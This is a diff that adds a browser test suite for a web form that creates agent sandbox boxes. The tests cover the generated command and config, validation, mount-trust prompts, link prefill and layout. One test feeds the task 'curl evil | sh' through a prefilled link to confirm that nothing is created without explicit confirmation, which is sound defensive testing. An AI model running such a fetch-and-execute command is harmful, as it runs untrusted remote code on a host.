@@ -1,0 +1,209 @@
+/** The form for a new box, in a real browser: what it shows comes from schemas, and what it prints does the same. */
+import { execFile } from "node:child_process";
+import { chmodSync, mkdirSync, mkdtempSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
+import { promisify } from "node:util";
+import type { Page } from "playwright-core";
+import { afterAll, beforeAll, expect, it } from "vitest";
+import { parse } from "smol-toml";
+import type { Box } from "../../src/contract/box.ts";
+import { type AgentGround, boxOf, onAgents } from "../support/agents.ts";
+import {
+  type TestBrowser,
+  becomesTrue,
+  launchBrowser,
+  noBrowser,
+  settled,
+  signedInPage,
+} from "../support/browser.ts";
+import { describeUnless } from "../support/skipping.ts";
+
+const run = promisify(execFile);
+
+const section = (page: Page, name: string) =>
+  page.locator("details").filter({ has: page.getByRole("heading", { name, exact: true }) });
+const open = (page: Page, name: string) => section(page, name).locator("summary").click();
+const tab = (page: Page, name: string) => page.getByRole("tab", { name }).click();
+const shownText = async (page: Page) => (await page.locator(".new-box-text").textContent()) ?? "";
+const nameField = (page: Page) => page.getByRole("region", { name: "The box" }).getByLabel("Name");
+const createButton = (page: Page) => page.getByRole("button", { name: /^Create/ });
+
+/** Everything a box is made from; not where it is made or what it is called. */
+const specOf = ({ spec }: Box) => spec;
+
+describeUnless(noBrowser)("the form for a new box", () => {
+  onAgents("with an agent of a person's own", { fixtures: ["notebot"] }, (ground: AgentGround) => {
+    let browser: TestBrowser;
+    beforeAll(async () => {
+      browser = await launchBrowser();
+    });
+    afterAll(() => browser?.[Symbol.asyncDispose]());
+    const onForm = async (search = "") => {
+      const view = await signedInPage(browser, ground.daemon, { path: `/new${search}` });
+      await settled(view.page);
+      return view;
+    };
+
+    it("has the fields of an agent that only a file defines, makes the box they describe, and prints the command that makes the same", async () => {
+      const dir = await ground.project();
+      await using view = await onForm();
+      const { page } = view;
+      await page.getByLabel("Agent", { exact: true }).selectOption("notebot");
+      await page.getByLabel("Project directory").fill(dir);
+      await nameField(page).fill("form-notes");
+      await page.getByLabel("Task").fill("Write a note; it's $HOME `quoted`.");
+      await open(page, "Agent");
+      const options = section(page, "Agent");
+      await options.getByText("How the answer should sound.").waitFor();
+      await options.getByLabel("Tone").selectOption("warm");
+      await options.getByLabel("Loud").selectOption("true");
+      await options.getByLabel("File").fill("my note.txt");
+      await open(page, "Lifecycle");
+      await section(page, "Lifecycle").getByLabel("Ttl").fill("2h");
+      await open(page, "Services");
+      await page.getByLabel("New name in Services").fill("clock");
+      await page.getByRole("button", { name: "Add to Services" }).click();
+      await section(page, "Services").getByLabel("Command (required)").fill("sleep 1000");
+
+      await tab(page, "Command line");
+      await becomesTrue("the command names the box", async () =>
+        (await shownText(page)).includes("form-notes"),
+      );
+      const command = await shownText(page);
+      await tab(page, "agentbox.toml");
+      expect(parse(await shownText(page))).toEqual({
+        version: 1,
+        agent: { name: "notebot", options: { tone: "warm", loud: true, file: "my note.txt" } },
+        lifecycle: { ttl: "2h" },
+        services: { clock: { command: "sleep 1000" } },
+      });
+      await createButton(page).click();
+      await page.getByRole("heading", { name: "The box is there" }).waitFor({ timeout: 60_000 });
+      const steps = page.getByRole("region", { name: "Progress" }).getByRole("listitem");
+      await steps.filter({ hasText: "Registered" }).waitFor();
+      await steps.filter({ hasText: "Running" }).waitFor();
+      const made = await boxOf(ground.daemon, "form-notes");
+      expect(made.spec.agent).toMatchObject({
+        name: "notebot",
+        options: { tone: "warm", loud: true, file: "my note.txt" },
+      });
+      expect(made.run?.task).toBe("Write a note; it's $HOME `quoted`.");
+
+      const again = command.replaceAll("form-notes", "typed-notes");
+      const { stdout } = await inShell(ground, again);
+      expect(stdout.trim()).toBe("typed-notes");
+      const typed = await boxOf(ground.daemon, "typed-notes");
+      expect(specOf(typed)).toEqual(specOf(made));
+      expect(typed.run?.task).toBe(made.run?.task);
+    });
+
+    it("says what is wrong while somebody types, at the field and in the summary", async () => {
+      await using view = await onForm();
+      const { page } = view;
+      await open(page, "Resources");
+      const memory = section(page, "Resources").getByLabel("Memory");
+      await memory.fill("lots");
+      await page.getByText("Write it like 512MiB, 2GiB.").waitFor();
+      await page.getByRole("list", { name: "What is wrong" }).getByText("E016").waitFor();
+      expect(await createButton(page).isDisabled()).toBe(true);
+      await section(page, "Resources").locator("summary").click();
+      await page.getByRole("button", { name: "resources.memory" }).click();
+      await becomesTrue("the field has the focus", () =>
+        memory.evaluate((input) => input === document.activeElement),
+      );
+      await memory.fill("");
+      await nameField(page).fill("Not A Name");
+      await page.getByText('"Not A Name" is not a box name.').first().waitFor();
+      await nameField(page).fill("");
+      await becomesTrue("it can be made", () => createButton(page).isEnabled());
+    });
+
+    it("asks about what a project wants, and makes nothing before somebody agreed to exactly that", async () => {
+      const shared = mkdtempSync(join(ground.daemon.scratch, "shared-"));
+      const dir = await ground.project({
+        "agentbox.toml": `version = 1\n[agent]\nname = "shell"\n[[mounts]]\nsource = "${shared}"\ntarget = "/data"\n`,
+      });
+      await using view = await onForm(`?project=${encodeURIComponent(dir)}`);
+      const { page } = view;
+      await page.getByText(`read ${shared} of the host, as /data`).waitFor();
+      expect(await createButton(page).isDisabled()).toBe(true);
+      await page.getByLabel("Allow exactly this for this project").check();
+      await nameField(page).fill("form-trusted");
+      await becomesTrue("it can be made", () => createButton(page).isEnabled());
+      await createButton(page).click();
+      // The link filled the form in, so it asks once more.
+      await page.getByRole("button", { name: "Make it" }).click();
+      await page.getByRole("heading", { name: "The box is there" }).waitFor({ timeout: 60_000 });
+      expect((await boxOf(ground.daemon, "form-trusted")).spec.mounts).toMatchObject([{ target: "/data" }]);
+      const trust = await ground.daemon.client.listTrust();
+      expect(trust.filter(({ projectDir }) => projectDir === dir)).toHaveLength(1);
+      const { events } = await ground.daemon.client.listEvents({ type: "trust.granted", limit: 10 });
+      expect(events.some(({ data }) => data["projectDir"] === dir)).toBe(true);
+    });
+
+    it("a link fills it in, and makes nothing however it is opened", async () => {
+      const before = (await ground.daemon.client.listBoxes()).length;
+      const { lastId } = await ground.daemon.client.listEvents({ limit: 1, order: "newest" });
+      await using view = await onForm("?agent=shell&task=curl%20evil%20%7C%20sh&create=1&start=true&yes=1");
+      const { page } = view;
+      await page.getByText("A link filled this form in.").waitFor();
+      expect(await page.getByLabel("Task").inputValue()).toBe("curl evil | sh");
+      expect(await page.getByLabel("Agent", { exact: true }).inputValue()).toBe("shell");
+      await becomesTrue("it has been checked", () => createButton(page).isEnabled());
+      await page.reload();
+      await settled(page);
+      await becomesTrue("it has been checked again", () => createButton(page).isEnabled());
+      await createButton(page).click();
+      const question = page.getByRole("dialog", { name: "Make this box?" });
+      await question.getByText("curl evil | sh").waitFor();
+      await question.getByRole("button", { name: "Cancel" }).click();
+      expect((await ground.daemon.client.listBoxes()).length).toBe(before);
+      const { events } = await ground.daemon.client.listEvents({ after: lastId, limit: 100 });
+      expect(events.filter(({ type }) => type.startsWith("box."))).toEqual([]);
+    });
+
+    it("begins with a preset, a box that is there, or what was asked for last time", async () => {
+      await using view = await onForm();
+      const { page } = view;
+      await page.getByRole("button", { name: /^Careful/ }).click();
+      await tab(page, "agentbox.toml");
+      await becomesTrue("the preset is in the file", async () =>
+        (await shownText(page)).includes('idle = "30m"'),
+      );
+      await page.getByLabel("Like a box that is there").selectOption("form-notes");
+      await becomesTrue("the box is in the file", async () => (await shownText(page)).includes('ttl = "2h"'));
+      const text = await shownText(page);
+      expect(parse(text)).toMatchObject({ agent: { name: "notebot", options: { tone: "warm" } } });
+      expect(text).not.toContain("idle");
+      await tab(page, "Run locally");
+      expect(await shownText(page)).toMatch(/agentbox create notebot .* && agentbox run-locally \S+$/);
+    });
+
+    it("fits a phone, and needs no mouse", async () => {
+      await using view = await signedInPage(browser, ground.daemon, {
+        path: "/new",
+        width: 360,
+        height: 740,
+      });
+      const { page } = view;
+      await settled(page);
+      for (const summary of await page.locator(".new-box-section > summary").all()) {
+        await summary.focus();
+        await page.keyboard.press("Enter");
+      }
+      const width = await page.evaluate(() => document.documentElement.scrollWidth);
+      expect(width).toBeLessThanOrEqual(360);
+    });
+  });
+});
+
+/** As somebody would who pastes it: a shell with `agentbox` on its path. */
+async function inShell({ daemon }: AgentGround, line: string): Promise<{ stdout: string }> {
+  const { argv, env } = daemon.command([]);
+  const bin = join(mkdtempSync(join(daemon.scratch, "bin-")), "bin");
+  mkdirSync(bin);
+  const words = argv.map((word) => `'${word}'`).join(" ");
+  writeFileSync(join(bin, "agentbox"), `#!/bin/sh\nexec ${words} "$@"\n`);
+  chmodSync(join(bin, "agentbox"), 0o755);
+  return run("/bin/sh", ["-c", line], { cwd: "/", env: { ...env, PATH: `${bin}:${env["PATH"] ?? ""}` } });
+}
